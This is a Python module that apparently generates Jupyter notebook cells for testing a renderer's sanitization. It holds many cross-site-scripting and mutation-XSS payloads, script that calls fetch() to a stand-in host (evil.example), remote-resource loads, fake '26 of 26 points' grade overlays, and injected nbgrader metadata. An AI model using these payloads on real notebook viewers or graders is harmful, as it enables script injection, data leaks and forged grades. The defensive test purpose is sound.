"""Cells that try to run a script, ask another host or draw over a grade where they are shown."""

from html import escape

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

RUN = "window.hacked = 1; document.title = 'hacked'; fetch('https://evil.example/x')"
OVERLAY = "position: fixed; top: 0; left: 0; width: 100%; height: 9rem; z-index: 9"
BAD = f'<img src=x onerror="{RUN}">'
# These are harmless as they are first read, and were not when written out and read again: markup
# changes its meaning where it goes from HTML into formulas and back (DOMPurify's and ammonia's
# advisories).
MUTATING = [
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{escape(BAD)}">',
    f"<math><mtext><table><mglyph><style><math>{BAD}</style></mglyph></table></mtext></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea>{BAD}'>",
    f"<svg></p><style><a id='</style>{BAD}'>",
    f"<math><annotation-xml encoding='text/html'><style>{BAD}</style></annotation-xml></math>",
    f"<math><mi><mglyph><style><!--</style>{BAD}--></mglyph></mi></math>",
    "<b><math><mtext><option><f><option></option><mglyph><svg><mtext><style>"
    f"<a title='</style>{BAD}'>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{BAD}'></h1>",
    f"<math><mo><table><mtext><mi><malignmark><!--</mi>{BAD}--></math>",
    f'<math href="javascript:{RUN}">c</math><math><mi xlink:href="javascript:{RUN}">x',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">a prize</maction>',
    f"<math><mtext style='{OVERLAY}'>26 of 26 points</mtext><mspace width='9999px'></mspace>",
]
HTML = [
    f"<script>{RUN}</script>",
    f'<img src="x" onerror="{RUN}">',
    '<img src="https://evil.example/pixel.png">',
    f"<svg onload=\"{RUN}\"><script>{RUN}</script><image href='https://evil.example/i.png'/></svg>",
    f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table>'
    "</mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<a class="bait" href="javascript:{RUN}">a prize</a>',
    f'<a class="bait" href=" jAvascript&colon;{RUN}">another</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    "<style>@import url(https://evil.example/i.css); body { display: none }</style>",
    '<div style="background: url(https://evil.example/b.png)">background</div>',
    f'<div class="overlay" style="{OVERLAY}">26 of 26 points</div>',
    '<div style="margin-top: -3000px">26 of 26 points</div>',
    '<form action="https://evil.example/f"><input name="q"><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/r">',
    '<video src="https://evil.example/v" autoplay></video>',
    f'<details open ontoggle="{RUN}"><summary>more</summary></details>',
    f'<input autofocus onfocus="{RUN}">',
    f"<b id='submission_id' name='getElementById' onclick=\"{RUN}\">x</b>",
    *MUTATING,
]
MARKDOWN = [
    f"[a link](javascript:{RUN.replace(' ', '')})",
    "![a picture](https://evil.example/m.png)",
    '![$x$" onerror="window.hacked=1](data:image/png;base64,AAAA)',
    rf"$\text{{{BAD}}}$ and $\mathrm{{</math>{BAD}}}$",
    r"$\href{javascript:window.hacked=1}{x}$ and $\style{position:fixed}{y}$",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:window.hacked=1"\n```',
    "### BEGIN MARK SCHEME\nno end of it",
]
DATA = [
    {"application/javascript": RUN, "text/plain": "<IPython.core.display.Javascript object>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "IntSlider()"},
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>"},
    {"image/png": f'AAAA" onerror="{RUN}'},
    {"text/latex": f"$$<img src=x onerror='{RUN}'>$$"},
    {"text/markdown": f'<img src=x onerror="{RUN}">'},
    {"text/vnd.mermaid": "graph TD; A-->B"},
    {"application/x-anything": "a"},
]


def cells():
    """One cell for each attempt, and a few whose metadata or size is the attempt."""
    yield from (new_markdown_cell(source) for source in (*HTML, *MARKDOWN))
    outputs = [new_output("display_data", data={"text/html": html}) for html in HTML]
    outputs += [new_output("display_data", data=data) for data in DATA]
    outputs.append(new_output("stream", text=f"</pre><script>{RUN}</script>\x1b[31mred\ud800"))
    outputs.append(
        new_output("error", ename="E<script>", evalue="</pre>", traceback=[f"<script>{RUN}"])
    )
    yield new_code_cell("1", outputs=outputs)
    raw = {"raw_mimetype": "text/html"}
    yield new_raw_cell(f"<script>{RUN}</script>", metadata=raw)
    marks = {"schema_version": 3, "grade": True, "solution": False, "locked": True, "task": False}
    marks |= {"points": 100, "grade_id": f'x"><script>{RUN}</script>'}
    yield new_markdown_cell("metadata", metadata={"nbgrader": marks, "tags": ["<script>"]})
    yield new_code_cell("2", metadata={"magics_language": f'"><script>{RUN}</script>'})
    yield new_code_cell("3", outputs=[new_output("stream", text="x" * 30_000_000)])
